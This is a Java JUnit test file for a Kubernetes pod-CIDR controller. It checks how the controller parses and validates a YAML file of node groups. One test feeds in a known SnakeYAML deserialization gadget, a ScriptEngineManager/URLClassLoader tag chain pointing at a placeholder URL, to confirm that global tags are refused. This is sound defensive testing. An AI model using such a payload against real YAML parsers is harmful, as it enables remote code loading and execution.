package io.github.podcidr.controller;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.podcidr.ipam.Cidr;
import io.github.podcidr.ipam.NodeGroup;
import io.github.podcidr.ipam.NodeIpam;
import io.github.podcidr.k8s.ControllerSettings;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code --pools-file}: named node groups read from YAML, every error at once with its line. */
class PoolsFileTest {
    private static final Map<String, String> ENV = Map.of("POD_NAME", "podcidr-0", "POD_NAMESPACE", "infra");

    @TempDir
    Path dir;

    private Path file(String yaml) throws IOException {
        Path p = dir.resolve("pools.yaml");
        Files.writeString(p, yaml);
        return p;
    }

    private ControllerFlags.Result parse(String yaml, String... more) throws IOException {
        Path p = file(yaml);
        String[] args = new String[more.length + 1];
        args[0] = "--pools-file=" + p;
        System.arraycopy(more, 0, args, 1, more.length);
        return ControllerFlags.parse(args, ENV);
    }

    private static final String TKE = """
            groups:
              - name: idc
                nodeSelector:
                  matchLabels:
                    node.tke.cloud.tencent.com/type: external
                clusterCIDRs: [10.250.0.0/16, fd00:250::/48]
                nodeCIDRMaskSizeIPv4: 26
                reservedCIDRs: [10.250.255.0/24]
              - name: gpu
                nodeSelector:
                  matchExpressions: [{"key":"node.kubernetes.io/instance-type","operator":"In","values":["GN10X"]}]
                clusterCIDRs:
                  - 10.251.0.0/20
                nodeCIDRMaskSizeIPv4: 25
            """;

    @Test
    void groupsAreReadInOrderWithTheDefaultGroupFromTheFlags() throws IOException {
        ControllerFlags.Result r = parse(TKE, "--cluster-cidr=10.244.0.0/16", "--reserved-cidrs=10.96.0.0/12");
        assertTrue(r.ok(), () -> r.errors().toString());
        ControllerSettings s = r.flags().settings();
        assertEquals(List.of("idc", "gpu"), s.nodeGroups().stream().map(g -> g.name()).toList());
        NodeGroup idc = s.nodeGroups().get(0).group();
        assertEquals(List.of(new NodeGroup.Pool(Cidr.parse("10.250.0.0/16"), 26),
                new NodeGroup.Pool(Cidr.parse("fd00:250::/48"), 64)), idc.pools());
        assertEquals(List.of(Cidr.parse("10.250.255.0/24")), idc.reserved());
        assertEquals("idc", s.groupOf(Map.of("node.tke.cloud.tencent.com/type", "external")));
        assertEquals("gpu", s.groupOf(Map.of("node.kubernetes.io/instance-type", "GN10X")));
        assertEquals(NodeIpam.DEFAULT_GROUP, s.groupOf(Map.of("node.kubernetes.io/instance-type", "S5.LARGE8")));
        NodeIpam ipam = s.newIpam();
        assertEquals(List.of(NodeIpam.DEFAULT_GROUP, "idc", "gpu"), ipam.groups().stream().map(NodeGroup::name)
                .toList());
        assertEquals(1024 - 4, ipam.stats("idc").get(0).free(), "a /16 cut into /26, its last /24 reserved");
        assertEquals(32, ipam.stats("gpu").get(0).capacity());
        assertTrue(s.labelKeys().containsAll(List.of("node.tke.cloud.tencent.com/type",
                "node.kubernetes.io/instance-type")));
    }

    @Test
    void withoutClusterCidrThereIsNoDefaultGroup() throws IOException {
        ControllerFlags.Result r = parse(TKE);
        assertTrue(r.ok(), () -> r.errors().toString());
        assertEquals(List.of(), r.flags().settings().clusterCidrs());
        assertEquals(null, r.flags().settings().groupOf(Map.of()));
        assertEquals(List.of("idc", "gpu"), r.flags().settings().newIpam().groups().stream().map(NodeGroup::name)
                .toList());
    }

    @Test
    void everyProblemIsReportedAtOnceWithItsLine() throws IOException {
        ControllerFlags.Result r = parse("""
                groups:
                  - name: idc
                    nodeSelector:
                      matchLabels: {node.tke.cloud.tencent.com/type: external}
                    clusterCIDRs: [10.244.128.0/20]
                    nodeCidrMaskSizeIPv4: 26
                  - name: idc
                    clusterCIDRs: [10.250.0.0/16]
                  - name: gpu
                    nodeSelector: {matchLabels: {gpu: "true"}}
                    clusterCIDRs: [10.251.0.0/24]
                    nodeCIDRMaskSizeIPv4: 20
                  - name: Bad_Name
                    clusterCIDRs: [10.252.0.1/16]
                """, "--cluster-cidr=10.244.0.0/16");
        assertFalse(r.ok());
        List<String> errors = r.errors().stream().map(ConfigError::toString).toList();
        String path = dir.resolve("pools.yaml").toString();
        assertEquals(List.of(
                "--pools-file=" + path + ": line 6: group idc: unknown key nodeCidrMaskSizeIPv4; did you mean"
                        + " nodeCIDRMaskSizeIPv4? The keys are name, nodeSelector, clusterCIDRs, nodeCIDRMaskSizeIPv4,"
                        + " nodeCIDRMaskSizeIPv6, reservedCIDRs",
                "--pools-file=" + path + ": line 12: group gpu: nodeCIDRMaskSizeIPv4 20 does not fit range"
                        + " 10.251.0.0/24: a node's subnet must lie inside the range, so the mask must be at least"
                        + " /24, e.g. 32",
                "--pools-file=" + path + ": line 13: group Bad_Name: group name \"Bad_Name\" is not valid; expected 1"
                        + " to 63 lower-case letters, digits and '-', starting and ending with a letter or digit, e.g."
                        + " idc or gpu-a100",
                "--pools-file=" + path + ": line 14: group Bad_Name: clusterCIDRs: \"10.252.0.1/16\" has host bits"
                        + " set; the network is 10.252.0.0/16; e.g. 10.250.0.0/16"), errors.subList(0, 4));
        // the groups that could be read are checked against each other too
        assertTrue(errors.stream().anyMatch(e -> e.contains("line 7: group idc has no nodeSelector, so it takes"
                + " every node, and the default group of --cluster-cidr would get none")), errors::toString);
        assertEquals(5, errors.size(), errors::toString);
    }

    @Test
    void crossGroupProblems() throws IOException {
        ControllerFlags.Result r = parse("""
                groups:
                  - name: all
                    clusterCIDRs: [10.250.0.0/16]
                  - name: idc
                    nodeSelector: {matchLabels: {idc: "yes"}}
                    clusterCIDRs: [10.250.128.0/20]
                  - name: idc
                    nodeSelector: {matchLabels: {idc: "no"}}
                    clusterCIDRs: [10.244.0.0/24, 10.243.0.0/24]
                    reservedCIDRs: [10.243.0.0/24]
                """, "--cluster-cidr=10.244.0.0/16");
        List<String> errors = r.errors().stream().map(e -> e.message()).toList();
        assertEquals(List.of(
                "line 7: group idc: the name is also used by the group at line 4; every group needs its own name",
                "line 2: group all has no nodeSelector, so it takes every node, and the groups after it (idc, idc)"
                        + " would get none; give it a nodeSelector or make it the last group",
                "range 10.244.0.0/24 of group idc (line 7) overlaps range 10.244.0.0/16 of the default group"
                        + " (--cluster-cidr); every address may belong to one group only, so that a node's pod CIDR"
                        + " tells its group: give disjoint ranges, e.g. 10.244.0.0/16 and 10.250.0.0/16",
                "range 10.250.128.0/20 of group idc (line 4) overlaps range 10.250.0.0/16 of group all (line 2);"
                        + " every address may belong to one group only, so that a node's pod CIDR tells its group:"
                        + " give disjoint ranges, e.g. 10.244.0.0/16 and 10.250.0.0/16"), errors);
    }

    @Test
    void aMisspelledKeyDoesNotHideTheEntrysOtherProblemsNorIsADuplicateNameReportedTwice() throws IOException {
        ControllerFlags.Result r = parse("""
                groups:
                  - name: IDC
                    nodeSelectr: {matchLabels: {a: b}}
                    clusterCIDRs: [10.250.0.0/16]
                    nodeCIDRMaskSizeIPv4: 12
                  - name: gpu
                    nodeSelector: {matchLabels: {x: y}}
                    clusterCIDRs: [10.251.0.0/16]
                  - name: gpu
                    nodeSelector: {matchLabels: {x: z}}
                    clusterCIDRs: [10.252.0.0/16]
                """, "--cluster-cidr=10.244.0.0/16");
        List<String> errors = r.errors().stream().map(ConfigError::message).toList();
        assertEquals(4, errors.size(), errors::toString);
        assertTrue(errors.get(0).startsWith("line 3: group IDC: unknown key nodeSelectr; did you mean nodeSelector?"),
                errors::toString);
        assertTrue(errors.get(1).startsWith("line 2: group IDC: group name \"IDC\" is not valid"), errors::toString);
        assertTrue(errors.get(2).startsWith("line 5: group IDC: nodeCIDRMaskSizeIPv4 12 does not fit range"),
                errors::toString);
        assertEquals("line 9: group gpu: the name is also used by the group at line 6; every group needs its own name",
                errors.get(3));
    }

    @Test
    void reservedRangesThatCoverAGroupRangeAreRefused() throws IOException {
        ControllerFlags.Result r = parse("""
                groups:
                  - name: idc
                    clusterCIDRs: [10.250.0.0/24]
                    reservedCIDRs: [10.250.0.0/23]
                """);
        assertEquals(List.of("line 2: group idc: range 10.250.0.0/24 has no subnet left to hand out: reservedCIDRs"
                + " (or --reserved-cidrs) cover all of it; reserve ranges inside or outside the range, not over it"),
                r.errors().stream().map(ConfigError::message).toList());
    }

    @Test
    void malformedYamlNamesTheLine() throws IOException {
        ControllerFlags.Result r = parse("groups:\n  - name: idc\n    clusterCIDRs: [10.250.0.0/16\n  - name: x\n");
        assertEquals(1, r.errors().size());
        assertTrue(r.errors().get(0).message().matches("line \\d: not valid YAML: .*"), r.errors().toString());
        ControllerFlags.Result dup = parse("groups:\n  - name: idc\n    name: idc2\n    clusterCIDRs: [10.250.0.0/16]\n");
        assertEquals(List.of("line 3: group idc: key name is given twice; give it once"),
                dup.errors().stream().map(ConfigError::message).toList());
        ControllerFlags.Result empty = parse("");
        assertTrue(empty.errors().get(0).message().startsWith("is empty; expected a list of node groups"));
        ControllerFlags.Result typo = parse("group:\n  - name: idc\n");
        assertTrue(typo.errors().get(0).message().startsWith("line 1: the file: unknown key group; did you mean"
                + " groups?"), typo.errors().toString());
        ControllerFlags.Result missing = ControllerFlags.parse(new String[] {"--pools-file=" + dir.resolve("none")},
                ENV);
        assertTrue(missing.errors().get(0).message().startsWith("cannot be read (NoSuchFileException"),
                missing.errors().toString());
    }

    @Test
    void tagsCannotInstantiateClasses() throws IOException {
        ControllerFlags.Result r = parse("""
                groups:
                  - name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                    clusterCIDRs: [10.250.0.0/16]
                """);
        assertFalse(r.ok());
        // SnakeYAML 2 refuses global tags while composing; nothing here constructs Java objects from the tree anyway
        assertEquals(List.of("line 2: not valid YAML: Global tag is not allowed:"
                + " tag:yaml.org,2002:javax.script.ScriptEngineManager"),
                r.errors().stream().map(ConfigError::message).toList());
        ControllerFlags.Result local = parse("""
                groups:
                  - name: !local [a]
                    clusterCIDRs: [10.250.0.0/16]
                """);
        assertEquals(List.of("line 2: groups[0]: name must be a text; give a name such as idc"),
                local.errors().stream().map(ConfigError::message).toList());
    }

    @Test
    void badSelectorsAreReportedAsForTheFlag() throws IOException {
        ControllerFlags.Result r = parse("""
                groups:
                  - name: idc
                    nodeSelector:
                      matchExpressions: [{key: a, operator: Near, values: [x]}]
                    clusterCIDRs: [10.250.0.0/16]
                """);
        assertEquals(1, r.errors().size(), r.errors()::toString);
        assertTrue(r.errors().get(0).message().startsWith("line 4: group idc: nodeSelector: node selector"),
                r.errors().toString());
    }

    @Test
    void helpSaysTheFileIsReadAtStart() {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        ControllerFlags.printHelp(new java.io.PrintStream(out, true, java.nio.charset.StandardCharsets.UTF_8));
        String help = out.toString(java.nio.charset.StandardCharsets.UTF_8).replaceAll("\\s+", " ");
        assertTrue(help.contains("--pools-file"), help);
        assertTrue(help.contains("Read at start: a change takes a restart"), help);
    }

    @Test
    void planShowsEachGroupsCapacityAndRefusesABadFile() throws IOException {
        Path p = file(TKE);
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        java.io.ByteArrayOutputStream err = new java.io.ByteArrayOutputStream();
        int code = PlanCommand.run(new String[] {"--cluster-cidr=10.244.0.0/16", "--pools-file=" + p, "--nodes=100"},
                new java.io.PrintStream(out, true), new java.io.PrintStream(err, true));
        String text = out.toString();
        assertEquals(0, code, text + err);
        assertTrue(text.contains("Node groups (--pools-file"), text);
        assertTrue(text.matches("(?s).*idc +10\\.250\\.0\\.0/16 +IPv4 +/26 +1,024 +4 +1,020 +62.*"), text);
        assertTrue(text.contains("idc              holds 1,020 nodes"), text);
        assertTrue(text.contains("gpu              holds 32 nodes (one subnet per family each); selector:"
                + " node.kubernetes.io/instance-type In [GN10X]"), text);
        Path bad = file("groups:\n  - name: idc\n    clusterCIDRs: [10.244.0.0/20]\n");
        err.reset();
        assertEquals(2, PlanCommand.run(new String[] {"--cluster-cidr=10.244.0.0/16", "--pools-file=" + bad},
                new java.io.PrintStream(out, true), new java.io.PrintStream(err, true)));
        assertTrue(err.toString().contains("range 10.244.0.0/20 of group idc (line 2) overlaps range 10.244.0.0/16"
                + " of the default group"), err.toString());
    }

    @Test
    void theDocumentedExampleIsAcceptedAndDoesWhatItSays() throws IOException {
        String reference = Files.readString(Path.of("..", "docs", "configuration.md"));
        int start = reference.indexOf("```yaml\n# pools.yaml\n");
        assertTrue(start >= 0, "docs/configuration.md has the pools.yaml example");
        String yaml = reference.substring(start + "```yaml\n".length(), reference.indexOf("```", start + 7));
        ControllerFlags.Result r = parse(yaml, "--cluster-cidr=10.244.0.0/16");
        assertTrue(r.ok(), () -> r.errors().toString());
        ControllerSettings s = r.flags().settings();
        assertEquals("idc", s.groupOf(Map.of("podcidr.example.com/site", "idc")));
        assertEquals(NodeIpam.DEFAULT_GROUP, s.groupOf(Map.of()));
        assertEquals(new NodeGroup.Pool(Cidr.parse("10.250.0.0/16"), 26), s.nodeGroups().get(0).group().pools().get(0));
        assertEquals(1024 - 4, s.newIpam().stats("idc").get(0).free(), "/26s of a /16, its last /24 reserved");
    }
}
